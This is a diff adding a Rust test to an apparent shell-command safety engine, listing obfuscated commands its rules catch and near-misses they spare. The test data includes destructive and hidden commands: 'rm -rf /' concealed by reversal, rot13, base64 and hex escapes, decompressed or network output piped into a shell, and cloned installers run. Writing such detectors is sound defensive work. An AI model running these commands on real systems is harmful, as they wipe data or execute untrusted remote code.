@@ -2860,3 +2860,79 @@ fn truncation_archives_remote_eval_and_essential_packages() {
         false,
     );
 }
+
+/// The fourth adversarial pass (session of 2026-12-04 from 15:00 UTC): scripts hidden by
+/// reversal, rotation or compression on their way into a shell, program names decoded at run
+/// time, installers of a repository just cloned, and home directories moved as any operand
+/// but the destination. (Escapes `printf` and `echo -e` decode, and alias values, are read by
+/// the parser: see `parse::tests`.)
+#[test]
+fn hidden_scripts_decoded_names_and_cloned_installers() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            ("echo '/ fr- mr' | rev | sh", "transformed-payload-to-shell"),
+            (
+                "echo 'ez -ei /' | tr 'a-z' 'n-za-m' | sh",
+                "transformed-payload-to-shell",
+            ),
+            ("zcat payload.gz | bash", "transformed-payload-to-shell"),
+            ("gzip -dc p.gz | sh", "transformed-payload-to-shell"),
+            ("$(echo cm0= | base64 -d) -rf /", "decoded-program-name"),
+            ("`echo mr | rev` -rf /", "decoded-program-name"),
+            (
+                "git clone https://github.com/x/y && ./y/install.sh",
+                "cloned-code-run",
+            ),
+            (
+                "git clone https://github.com/x/y && cd y && ./configure",
+                "cloned-code-run",
+            ),
+            (
+                "git clone https://github.com/x/y && cd y && bash install.sh",
+                "cloned-script-run",
+            ),
+            ("mv a ~ b", "move-home"),
+            ("mv -f ~ /tmp/old", "move-home"),
+            ("mv -- ~ /tmp/old", "move-home"),
+            ("openssl s_client -connect x:443 | sh", "network-to-shell"),
+            ("alias x='rm -rf /'", "rm-recursive-system"),
+            ("printf '\\x72\\x6d -rf /' | sh", "rm-recursive-system"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            // Line ends fixed, a compressor compressing, a name looked up.
+            (
+                "cat s.sh | tr -d '\\r' | sh",
+                "transformed-payload-to-shell",
+            ),
+            ("cat s.sh | tr -d '\\r' | sh", "encoded-payload-to-shell"),
+            ("gzip -c f | sh", "transformed-payload-to-shell"),
+            ("$(which python3) app.py", "decoded-program-name"),
+            ("$(echo aGk= | base64) x", "decoded-program-name"),
+            // A checkout of a repository already here; coreutils' `install`.
+            ("git checkout main && ./build.sh", "cloned-code-run"),
+            (
+                "git clone https://github.com/x/y && install -m 755 y/bin /usr/local/bin",
+                "cloned-code-run",
+            ),
+            // Into the home directory: the last operand is the destination.
+            ("mv a b ~/", "move-home"),
+            ("mv notes.txt ~", "move-home"),
+            // openssl decoding a local file is not a network connection.
+            (
+                "openssl enc -d -aes256 -in p.enc -k x | sh",
+                "network-to-shell",
+            ),
+            (
+                "openssl enc -d -aes256 -in p.enc -k x | sh",
+                "download-piped-to-shell",
+            ),
+        ],
+        false,
+    );
+}
